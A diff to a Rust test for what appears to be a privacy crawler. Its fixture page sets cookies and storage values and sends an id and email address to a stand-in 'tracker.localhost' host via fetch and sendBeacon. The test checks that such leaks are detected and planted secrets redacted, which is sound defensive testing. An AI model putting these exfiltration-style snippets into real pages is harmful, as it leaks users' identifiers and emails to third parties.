@@ -26,7 +26,7 @@ fn site(asked: &Asked) -> Reply {
                document.cookie = 'js={hex}; Path=/'; document.cookie = 'mail={mail}; Path=/';
                document.cookie = 'refused={jwt}; Domain=other.localhost';
                cookieStore.set('store', '{jwt}');
-               localStorage.setItem('key', '{local}'); localStorage.setItem('{beacon}', 'x'); sessionStorage.setItem('s', '{jwt}');
+               localStorage.setItem('key', '{local}'); sessionStorage.setItem('s', '{jwt}');
                fetch('http://tracker.localhost:{port}/collect?id={hex}&e=' + encodeURIComponent('{mail}')).catch(() => {{}});
                navigator.sendBeacon('http://tracker.localhost:{port}/beacon', '{local}');
                Function(\"document.cookie = 'evil=1'\\n//# sourceURL=http://www.shop.localhost/x.js?key={beacon}\")();
@@ -48,7 +48,7 @@ async fn planted_values_are_nowhere() {
     }
     assert!(page.leaks.iter().any(|l| l.name == "js" && l.to == "tracker.localhost"), "{:#?}", page.leaks);
     // Links have to stay usable for the crawler: of them only what cookies and storage hold is taken out.
-    assert_eq!(page.links.len(), 2);
+    assert_eq!(page.links.len(), 3, "{:?}", page.links);
     assert!(page.links[0].url.ends_with("/account?session=[20]"), "{:?}", page.links[0]);
     let json = serde_json::to_string_pretty(&page).unwrap();
     for secret in SECRETS {
